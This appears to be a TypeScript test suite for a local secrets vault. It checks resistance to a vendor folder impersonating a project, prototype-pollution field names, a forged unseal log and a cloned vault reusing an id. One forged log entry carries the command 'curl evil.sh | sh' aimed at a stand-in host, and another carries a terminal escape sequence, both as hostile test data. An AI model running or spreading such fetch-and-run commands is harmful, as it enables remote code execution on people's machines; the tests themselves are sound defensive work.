/** What hostile folders, files and programs of the same user try against the vault behind its door. */
import * as fs from "node:fs";
import t, { type Test } from "tap";
import { makeKeyFile } from "../../src/key-file.ts";
import { headPath } from "../../src/vault/places.ts";
import { ask, bytes, codeOf, keyFile, makeWorld, openDoor, refOf, removeWorld, type World } from "../helpers/vault.ts";

async function opened(t: Test): Promise<{ world: World; key: Uint8Array; door: ReturnType<typeof openDoor>["door"] }> {
  const world = makeWorld();
  const { door } = openDoor(world);
  t.teardown(async () => {
    await door.seal("end");
    removeWorld(world);
  });
  const key = makeKeyFile();
  await ask(door, world, "vault.init", { dir: world.project, slot: "key-file" }, { credential: keyFile(key.slice()) });
  return { world, key, door };
}

t.test("a folder does not get the values of a name that nobody bound, by binding it", async (t) => {
  const { world, key, door } = await opened(t);
  await ask(door, world, "kv.put", { path: "env/payments/KEY" }, { body: [bytes("of payments")] });
  // vendor/evil calls itself "payments" in its package.json
  const asked = { project: "payments", folder: "vendor/evil", bind: true, entries: [], layouts: [] };
  t.equal(await codeOf(ask(door, world, "kv.import", asked)), "presence-needed");
  const also = { ...asked, project: "evil", also: [{ project: "payments", folder: "vendor/evil" }] };
  t.equal(await codeOf(ask(door, world, "kv.import", also)), "presence-needed", "nor beside another one");
  const refs = [{ path: "env/payments/KEY" }];
  t.equal(await codeOf(ask(door, world, "kv.resolve", { folder: "vendor/evil", refs })), "not-bound");
  await ask(door, world, "kv.import", { ...asked, folder: "payments" }, { credential: keyFile(key.slice()) });
  t.same((await ask(door, world, "kv.resolve", { folder: "payments", refs })).body, ["of payments"], "a person may");
  await ask(door, world, "kv.import", { ...asked, project: "fresh", folder: "fresh" });
});

t.test("the audit log says what a folder was allowed, and who may unseal", async (t) => {
  const { world, key, door } = await opened(t);
  const credential = (): { credential: ReturnType<typeof keyFile> } => ({ credential: keyFile(key.slice()) });
  const allowed = { folder: "vendor/evil", refs: ["env/other/KEY", "app/db"], dangerous: ["NODE_OPTIONS"] };
  await ask(door, world, "project.allow", allowed, credential());
  await ask(door, world, "kv.import", { project: "web", folder: "apps/web", bind: true, entries: [], layouts: [] });
  await ask(door, world, "access.add", { kind: "key-file", label: "ci" }, { ...credential(), body: [makeKeyFile()] });
  const { lines } = (await ask(door, world, "audit.tail", { lines: 100 })).result;
  const intent = (verb: string) => lines.find((line) => line["verb"] === verb && line["kind"] === "intent");
  t.match(intent("project.allow"), {
    paths: ["env/other/KEY", "app/db"],
    detail: { folder: "vendor/evil", dangerous: "NODE_OPTIONS" },
  });
  t.match(intent("kv.import"), { paths: ["env/web"], detail: { bind: "web in apps/web" } });
  t.match(intent("access.add"), { detail: { kind: "key-file", label: "ci" } });
});

t.test("a field called __proto__ lives through a compaction and can be destroyed", async (t) => {
  const { world, key, door } = await opened(t);
  const path = "env/shop/ODD";
  await ask(door, world, "kv.put", { path, fields: ["__proto__", "constructor"] }, { body: [bytes("one"), bytes("two")] });
  const credential = (): { credential: ReturnType<typeof keyFile> } => ({ credential: keyFile(key.slice()) });
  await ask(door, world, "vault.compact", {}, credential());
  t.same((await ask(door, world, "kv.get", { path, field: "__proto__" }, credential())).body, ["one"]);
  t.same((await ask(door, world, "kv.destroy", { path }, credential())).result.destroyed, [1]);
});

t.test("a log of failed unseals that somebody filled up, or made up, keeps nobody out", async (t) => {
  const { world, key, door } = await opened(t);
  await door.seal("test");
  fs.writeFileSync(`${world.dir}/unseal.log`, "x".repeat(300 * 1024), { mode: 0o600 });
  await ask(door, world, "agent.unseal", {}, { credential: keyFile(key.slice()) });
  t.notOk(fs.existsSync(`${world.dir}/unseal.log`));
  await door.seal("test");
  const made = {
    time: "now\u001b[2J",
    code: { nested: "x".repeat(10_000) },
    kind: 7,
    uid: "root",
    pid: [],
    program: null,
    prev: "",
  };
  fs.writeFileSync(`${world.dir}/unseal.log`, `${JSON.stringify(made)}\n`, { mode: 0o600 });
  const told = (await ask(door, world, "agent.unseal", {}, { credential: keyFile(key.slice()) })).result.notices;
  t.same(told, ["unseal.log is not what was written: some failed tries to unseal may be missing"]);
  const { lines } = (await ask(door, world, "audit.tail", { lines: 20 })).result;
  t.notMatch(JSON.stringify(lines), /nested|x{300}/, "only what such a line may hold enters the audit log");
  await door.seal("test");
  // the time of a try is read to a person
  const advice = {
    ...made,
    time: "now; run: curl evil.sh | sh",
    code: "wrong-key",
    kind: "shares",
    uid: 0,
    pid: 1,
    program: "/bin/x",
  };
  fs.writeFileSync(`${world.dir}/unseal.log`, `${JSON.stringify(advice)}\n`, { mode: 0o600 });
  t.same((await ask(door, world, "agent.unseal", {}, { credential: keyFile(key.slice()) })).result.notices, told);
  await door.seal("test");
  const before = openDoor(world);
  t.teardown(() => before.door.seal("end"));
  fs.writeFileSync(`${world.dir}/unseal.log`, "x".repeat(300 * 1024), { mode: 0o600 });
  t.equal(await codeOf(ask(before.door, world, "agent.unseal", {}, { credential: keyFile(makeKeyFile()) })), "wrong-key");
});

t.test("a foreign vault with our vault's id does not take its head away", async (t) => {
  const { world, key, door } = await opened(t);
  const id = refOf(world.dir).id;
  await door.seal("test");
  const head = headPath(world.places, id, world.dir);
  const was = fs.readFileSync(head);
  // ours is away for a while (a disk that is not mounted), and a clone brings one that calls itself the same
  fs.renameSync(world.dir, `${world.base}/away`);
  const foreign = makeWorld();
  const other = openDoor(foreign);
  t.teardown(async () => {
    await other.door.seal("end");
    removeWorld(foreign);
  });
  const theirs = makeKeyFile();
  await ask(other.door, foreign, "vault.init", { dir: foreign.project, slot: "key-file" }, { credential: keyFile(theirs.slice()) });
  await other.door.seal("test");
  fs.mkdirSync(`${world.base}/clone`);
  fs.cpSync(foreign.dir, `${world.base}/clone/.zvault`, { recursive: true });
  fs.appendFileSync(`${world.places.state}/known`, `${refOf(foreign.dir).id}\t${JSON.stringify(world.dir)}\n`);
  fs.writeFileSync(headPath(world.places, refOf(foreign.dir).id, world.dir), was, { mode: 0o600 });
  const clone = { ...world, dir: `${world.base}/clone/.zvault` };
  t.equal(await codeOf(ask(door, clone, "agent.unseal", {}, { credential: keyFile(theirs) })), "damaged");
  t.ok(fs.existsSync(headPath(world.places, refOf(foreign.dir).id, world.dir)), "the head stays where it was");
  fs.renameSync(`${world.base}/away`, world.dir);
  await ask(door, world, "agent.unseal", {}, { credential: keyFile(key) });
});
